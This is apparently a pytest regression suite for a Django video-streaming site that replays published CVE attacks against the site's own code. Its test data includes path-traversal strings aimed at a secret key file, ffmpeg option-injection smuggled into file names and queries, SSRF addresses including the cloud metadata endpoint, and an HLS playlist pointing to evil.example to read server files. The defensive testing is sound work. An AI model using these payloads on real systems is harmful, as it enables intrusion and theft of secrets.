"""Attacks that were published against systems like this one, each by its number, tried on this one."""

from pathlib import Path

import pytest
from django.contrib.auth.models import User
from pytest_django import Settings

from catalog.models import Title
from playback.media import ffmpeg
from playback.media.inputs import CONTAINERS, OPTIONS, reading
from playback.media.probe import probe
from playback.models import Subtitle, Video
from playback.services.subtitles import subtitle_add
from playback.streaming.access import stream_url
from shopping.feeds.images import fetch
from tests.clients import SiteClient
from tests.films import make_film
from tests.site.test_visibility import played
from trendflix.accounts.visitors import visitor_of_user
from trendflix.core.errors import UserError
from vision.errors import PictureError

VTT = b"WEBVTT\n\n00:00.000 --> 00:01.000\nHello\n"
LIMITS = {"max_bytes": 10**9, "max_seconds": 10**5}
CLIMBING = [
    "..%2F..%2F..%2Fsecret-key.txt",
    "..%252F..%252Fsecret-key.txt",
    "..%5C..%5Csecret-key.txt",
    "%2e%2e/secret-key.txt",
]


@pytest.fixture
def video(db: None, settings: Settings) -> Video:
    """A film with files, beside a secret of the site."""
    (Path(settings.DATA) / "secret-key.txt").write_text("of the site")
    return Video.objects.get(title=played(Title.objects.create(name="Harbour Film", slug="harbour")))


def made_outside(video: Video, data: Path) -> list[Path]:
    """Subtitle files that lie elsewhere than in the film's folder."""
    found = [path for path in data.rglob("*.vtt") if path.is_file()]
    return [path for path in found if not path.resolve().is_relative_to(video.folder.resolve())]


@pytest.mark.parametrize("name", ["a.../../../../evil.vtt", "a.vtt/../../../evil.vtt", "a./../../../../tmp/evil"])
def test_cve_2026_35031_a_format_of_subtitles_that_climbs_out_of_the_folder(
    video: Video, settings: Settings, name: str
) -> None:
    try:
        subtitle_add(video, VTT, name)
    except UserError:
        assert not Subtitle.objects.exists()
    assert made_outside(video, Path(settings.DATA)) == []


@pytest.mark.parametrize("label", ["../../../evil", "/etc/cron.d/evil", "..\\..\\evil"])
def test_cve_2026_49246_a_language_or_label_of_subtitles_that_climbs_out_of_the_folder(
    video: Video, settings: Settings, label: str
) -> None:
    for language, shown in ((label, "German"), ("de", label)):
        try:
            subtitle_add(video, VTT, "a.vtt", language, shown)
        except UserError:
            continue
    assert made_outside(video, Path(settings.DATA)) == []
    assert not list(Path(settings.DATA).rglob("evil*"))


@pytest.mark.parametrize(
    "name", ["-f lavfi -i color.mp4", "-y", "x.mp4 -filter_complex movie=secret.mp4", "concat:a|b", "a\n-y"]
)
def test_cve_2026_35033_and_ghsa_866x_wj5j_2vf4_options_of_ffmpeg_in_a_name(tmp_path: Path, name: str) -> None:
    film = make_film(tmp_path / "film.mp4")
    named = film.rename(tmp_path / name)
    options = reading(named)
    assert options[-2:] == ["-i", f"file:{named}"], "one word, which begins with no hyphen"
    assert probe(named, name, **LIMITS).duration > 0
    assert {path.name for path in tmp_path.iterdir()} == {name}


@pytest.mark.parametrize(
    "query", ["?videoCodec=h264 -y /tmp/x", "?params=;-filter_complex;movie=x", "?static=true&container=../../x"]
)
def test_cve_2026_35033_and_ghsa_866x_wj5j_2vf4_options_of_ffmpeg_in_a_request(
    video: Video, alice: User, query: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ffmpeg, "run", lambda *args, **named: pytest.fail("a request runs an encoder"))
    monkeypatch.setattr(ffmpeg, "output_of", lambda *args, **named: pytest.fail("a request runs an encoder"))
    browser = SiteClient()
    browser.force_login(alice)
    url = stream_url(video, visitor_of_user(alice), "hls/k/0.m4s")
    answer = browser.get(url + query.replace(" ", "%20"))
    assert answer.status_code == 200 and b"".join(answer) == b"data", "the file itself, whatever is asked beside"


@pytest.mark.parametrize(
    "address", ["http://127.0.0.1/x", "http://169.254.169.254/latest/meta-data/", "http://[::1]/x"]
)
def test_cve_2021_29490_a_picture_of_our_own_network(address: str) -> None:
    with pytest.raises(PictureError, match="public"):
        fetch.fetch(address)


def test_cve_2026_33766_a_name_that_answers_with_a_private_address_the_second_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    answers = [[(0, 0, 0, "", ("93.184.216.34", 80))], [(0, 0, 0, "", ("127.0.0.1", 80))]]
    monkeypatch.setattr("socket.getaddrinfo", lambda *args, **named: answers.pop(0))
    asked: list[str] = []

    def pool(scheme: str, address: str, *args: object) -> object:
        asked.append(address)
        raise PictureError("enough")

    monkeypatch.setattr(fetch, "pool_to", pool)
    for _ in range(2):
        with pytest.raises(PictureError):
            fetch.fetch("http://shop.example/a.jpg")
    assert asked == ["93.184.216.34"], "what was looked up is what is asked; each look-up is checked"


def test_cve_2016_1898_a_playlist_that_reads_files_of_the_server(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("of the site")
    for target in (f"concat:http://evil.example/|file:{tmp_path}/secret.txt", f"file:{tmp_path}/secret.txt"):
        trap = tmp_path / "film.mp4"
        trap.write_text(f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{target}\n#EXT-X-ENDLIST\n")
        with pytest.raises(UserError):
            probe(trap, "film.mp4", **LIMITS)
    assert not {"hls", "concat", "dash", "sdp", "image2"} & set(CONTAINERS)
    assert OPTIONS["protocol_whitelist"] == "file"


@pytest.mark.parametrize("path", CLIMBING)
def test_cve_2021_21402_a_segment_whose_name_climbs_out_of_the_folder(video: Video, alice: User, path: str) -> None:
    browser = SiteClient()
    browser.force_login(alice)
    base = stream_url(video, visitor_of_user(alice), "hls/k/0.m4s").removesuffix("hls/k/0.m4s")
    assert browser.get(base + "hls/k/0.m4s").status_code == 200
    for prefix in ("", "hls/", "hls/k/"):
        assert browser.get(f"{base}{prefix}{path}").status_code == 404, prefix


@pytest.mark.parametrize("path", CLIMBING)
def test_mediacms_8_3_2_an_escaped_slash_past_the_check_of_media(video: Video, path: str) -> None:
    for prefix in ("", "posters/", f"titles/{video.title_id}/"):
        assert SiteClient().get(f"/media/{prefix}{path}").status_code == 404, prefix
    assert SiteClient().get("/media/..%2Fsecret-key.txt").status_code == 404


def test_cve_2026_8461_a_picture_that_makes_a_decoder_write_too_far_meets_limits_first(
    tmp_path: Path, settings: Settings
) -> None:
    film = make_film(tmp_path / "film.mp4")
    settings.FILM_MAX_PIXELS = 100
    with pytest.raises(UserError, match="larger than this site takes"):
        probe(film, "film.mp4", **LIMITS)
    settings.FFMPEG_MEMORY = 2**29
    command = [ffmpeg.binary(), "-hide_banner", "-nostdin", "-f", "lavfi", "-i", "color=s=16000x16000:d=1"]
    with pytest.raises(UserError, match="ffmpeg failed"):
        ffmpeg.run([*command, "-progress", "pipe:1", "-f", "null", "-"], 1.0, lambda part: None, limit=60)
